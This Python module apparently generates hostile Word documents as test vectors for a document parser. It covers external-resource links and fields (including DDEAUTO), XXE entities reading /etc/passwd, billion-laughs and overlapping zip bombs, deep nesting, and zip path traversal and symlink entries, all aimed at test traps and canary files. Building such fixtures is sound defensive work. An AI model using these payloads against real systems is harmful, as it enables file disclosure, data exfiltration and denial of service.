"""Word documents that reach out, blow up, or lie about what is in them (ECMA-376; APPNOTE 6.3)."""

import io
import stat
import struct
import warnings
import zipfile
from collections.abc import Iterator, Mapping
from itertools import chain

from tests.vectors.media.hostile import good
from tests.vectors.media.hostile.case import Case, Traps

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_A, _WP = (
    "http://schemas.openxmlformats.org/drawingml/2006/main",
    "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
)
_DOCUMENT, _RELS = "word/document.xml", "word/_rels/document.xml.rels"


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A zip of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def parts() -> dict[str, bytes]:
    """The parts of a good document."""
    with zipfile.ZipFile(io.BytesIO(good.files()["letter.docx"][1])) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _with(inner: str = "", relations: str = "", **more: bytes) -> bytes:
    """A good document with more XML before its last section, more relations, other parts."""
    found = parts()
    found[_DOCUMENT] = found[_DOCUMENT].replace(b"<w:sectPr", inner.encode() + b"<w:sectPr", 1)
    found[_RELS] = found[_RELS].replace(b"</Relationships>", relations.encode() + b"</Relationships>")
    return packed({**found, **more})


def _relation(kind: str, target: str) -> str:
    return f'<Relationship Id="rIdX" Type="{_OFFICE}{kind}" Target="{target}" TargetMode="External"/>'


def _run(inner: str) -> str:
    return f"<w:p {W} {R}><w:r>{inner}</w:r></w:p>"


def _field(code: str) -> str:
    begin, end = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>')
    return f"<w:p {W}><w:r>{begin}</w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r>{end}</w:r></w:p>"


def _blip(how: str) -> str:
    return _run(f'<w:drawing><a:blip xmlns:a="{_A}" {how}="rIdX"/></w:drawing>')


def cases(traps: Traps) -> Iterator[Case]:
    """All of them, as letter.docx."""
    for of, data in chain(_outward(traps), _bombs(traps), _zips(traps)):
        yield Case(of, "letter", "letter.docx", data)


def _outward(traps: Traps) -> Iterator[tuple[str, bytes]]:
    http, file = traps.url(), f"file://{traps.file('png')}"
    for where in (http, file, f"\\\\127.0.0.1@{traps.port}\\share\\a.png", traps.file("png"), "../../../../canary.png"):
        for how in ("r:link", "r:embed"):
            yield "docx: remote picture", _with(_blip(how), _relation("image", where))
        for kind in (
            "attachedTemplate",
            "oleObject",
            "aFChunk",
            "subDocument",
            "frame",
            "hyperlink",
            "video",
            "package",
        ):
            yield (
                f"docx: external {kind}",
                _with(_run('<w:object><o:OLEObject xmlns:o="o" r:id="rIdX"/></w:object>'), _relation(kind, where)),
            )
    for where in (http, traps.file("txt")):
        for code in (
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "LINK Word.Document.8",
            "DDEAUTO cmd",
            "RD",
            "IMPORT",
            "HYPERLINK",
        ):
            yield "docx: fields", _with(_field(f'{code} "{where}" \\d'))
    yield from _within(traps)


def _within(traps: Traps) -> Iterator[tuple[str, bytes]]:
    http = traps.url()
    settings = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{_relation("attachedTemplate", http)}</Relationships>'
    yield "docx: attached template", _with(**{"word/_rels/settings.xml.rels": settings.encode()})
    yield "docx: macros", _with(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)})
    yield (
        "docx: OLE object",
        _with(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)}),
    )
    chunk = f"<html><img src='{http}'><iframe src='file://{traps.file('txt')}'></html>".encode()
    yield (
        "docx: HTML within",
        _with(
            f'<w:altChunk {W} {R} r:id="rIdX"/>',
            _relation("aFChunk", "a.html").replace(' TargetMode="External"', ""),
            **{"word/a.html": chunk},
        ),
    )
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{traps.file("txt")}" parse="text"/>'
    yield "docx: XInclude", _with(_run(f"<w:t>{include}</w:t>"))
    style = f'<?xml-stylesheet type="text/xsl" href="{http}"?>'
    yield "docx: style sheet", packed({**parts(), _DOCUMENT: style.encode() + _body(parts()[_DOCUMENT])})
    for name in ("svg", "emf", "wmf", "eps", "gif"):
        data = {"svg": f'<svg><image href="{http}"/></svg>'}.get(name, f"%!PS ({traps.file('txt')}) run").encode()
        inside = _relation("image", f"media/x.{name}").replace(' TargetMode="External"', "")
        yield "docx: drawings", _with(_blip("r:embed"), inside, **{f"word/media/x.{name}": data})


def _body(xml: bytes) -> bytes:
    return xml.partition(b"?>")[2] or xml


def _typed(subset: str, used: str, part: str = _DOCUMENT) -> bytes:
    """A part with a document type; the entity used in the first text of the document."""
    found = parts()
    body = _body(found[part]).replace(b"A letter", b"A letter " + used.encode())
    return packed({**found, part: f'<?xml version="1.0"?><!DOCTYPE x [{subset}]>'.encode() + body})


def _bombs(traps: Traps) -> Iterator[tuple[str, bytes]]:
    file, http = traps.file("txt"), traps.url("evil.dtd")
    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    yield "docx: a billion laughs", _typed(laughs, "&i;")
    yield "docx: a billion laughs", _typed(laughs, "&i;", "docProps/core.xml")
    yield "docx: a billion laughs", _typed(laughs, "&i;", "[Content_Types].xml")
    yield "docx: one long entity", _typed(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 20_000)
    yield "docx: an entity of itself", _typed('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")
    for what in (f'<!ENTITY a SYSTEM "file://{file}">', f'<!ENTITY a SYSTEM "{http}">', '<!ENTITY a SYSTEM "file:///etc/passwd">',
                 f'<!ENTITY % p SYSTEM "{http}"> %p; <!ENTITY a "x">', f'<!ENTITY a PUBLIC "x" "file://{file}">'):  # fmt: skip
        for part in (_DOCUMENT, "word/styles.xml", "docProps/core.xml"):
            yield "docx: external entity", _typed(what, "&a;", part)
    external = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{http}">'.encode()
    yield "docx: external document type", packed({**parts(), _DOCUMENT: external + _body(parts()[_DOCUMENT])})
    for depth in (300, 20_000):
        for tag in ("w:sdt", "w:ins", "w:tbl", "w:txbxContent"):
            yield "docx: deep nesting", _with(f"<{tag} {W}>" * depth + f"</{tag}>" * depth)
    for depth in (300, 20_000):
        inner = "<w:r>" * depth + "<w:t>deep</w:t>" + "</w:r>" * depth
        yield "docx: deep nesting", _with(f"<w:p {W}>{inner}</w:p>")
    cell = f"<w:tc {W}><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>"
    yield "docx: 100000 cells", _with(f"<w:tbl {W}><w:tr>{cell * 100_000}</w:tr></w:tbl>")
    yield (
        "docx: nested tables",
        _with(f"<w:tbl {W}><w:tr><w:tc>" * 60 + _run("<w:t>x</w:t>") + "</w:tc></w:tr></w:tbl>" * 60),
    )
    yield "docx: 200000 paragraphs", _with(_run("<w:t>x</w:t>") * 200_000)
    yield "docx: one long word", _with(_run(f"<w:t>{'x' * 900_000}</w:t>"))
    yield "docx: one long line", _with(_run(f"<w:t>{'x ' * 450_000}</w:t>"))
    yield "docx: one picture 3000 times", _with(_pictures(3000))
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}hyperlink" Target="{http}" TargetMode="External"/>'
        for n in range(50_000)
    )
    yield "docx: 50000 relations", _with(relations=relations)


def _pictures(count: int) -> str:
    """The document's own picture, again and again."""
    relations = parts()[_RELS].decode()
    own = next(piece.split('"')[0] for piece in relations.split('Id="')[1:] if "/image" in piece.split("/>")[0])
    return _run(f'<w:drawing><a:blip xmlns:a="{_A}" r:embed="{own}"/></w:drawing>') * count


def _zips(traps: Traps) -> Iterator[tuple[str, bytes]]:
    base = parts()
    for name in (
        "../../../../tmp/canary.txt",
        "/etc/cron.d/canary",
        "word/../../../canary.txt",
        "C:\\canary.txt",
        "word\\..\\x",
        "a\0b",
        ".",
    ):
        yield "zip: path traversal", packed({**base, name: b"planted"})
    for target in ("/etc/passwd", traps.file("txt"), "../../../.."):
        yield "zip: symlinks", _linked(base, target)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings(action="ignore"):
        for name, data in (*base.items(), (_DOCUMENT, base[_DOCUMENT])):
            archive.writestr(zipfile.ZipInfo(name), data)
    yield "zip: the same name twice", out.getvalue()
    yield "zip: sizes of 4 GiB", lied(packed(base), 0xFFFFFFFE)
    for method in (1, 8, 12, 14, 93, 99, 0xFFFF):
        yield "zip: methods", _method(packed(base), method)
    yield "zip: bomb, overlapping", _overlapping(base)
    yield "zip: within zips", packed({**base, "word/a.zip": packed({"b.zip": packed({"c": bytes(1 << 20)})})})
    yield "zip: two archives", packed({"a": b"b"}) + packed(base)
    yield "zip: something before", b"PK\x03\x04" + bytes(3000) + packed(base)
    yield "zip: an end alone", b"PK\x03\x04" + bytes(30) + b"PK\x05\x06" + bytes(18)
    yield (
        "zip: an end that points back",
        b"PK\x03\x04" + bytes(30) + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, 0xFFFFFFFF, 0, 0),
    )


def _linked(base: Mapping[str, bytes], target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in base.items():
            entry = zipfile.ZipInfo(name)
            if name.startswith("word/media/") or name == "word/styles.xml":
                entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target if entry.external_attr else data)
    return out.getvalue()


def _entries(data: bytes) -> Iterator[int]:
    """Where the entries of the central directory begin."""
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        yield at
        at = data.find(b"PK\x01\x02", at + 46)


def lied(data: bytes, size: int) -> bytes:
    """The central directory says `size` for every entry once it is inflated."""
    out = bytearray(data)
    for at in _entries(data):
        struct.pack_into("<I", out, at + 24, size)
    return bytes(out)


def _method(data: bytes, method: int) -> bytes:
    out = bytearray(data)
    for at in _entries(data):
        struct.pack_into("<H", out, at + 10, method)
        struct.pack_into("<H", out, struct.unpack_from("<I", data, at + 42)[0] + 8, method)
    return bytes(out)


def _overlapping(base: Mapping[str, bytes]) -> bytes:
    """Many entries whose bytes are the same bytes of the file (a zip bomb without recursion)."""
    data = packed({**base, "word/media/kernel": bytes(8 << 20)})
    *_, last = _entries(data)
    end = data.rfind(b"PK\x05\x06")
    more = b"".join(data[last:end].replace(b"kernel", f"ker{number:03d}".encode()) for number in range(900))
    tail = bytearray(data[end:])
    count, size = struct.unpack_from("<HI", tail, 10)
    struct.pack_into("<HHI", tail, 8, count + 900, count + 900, size + len(more))
    return data[:end] + more + bytes(tail)
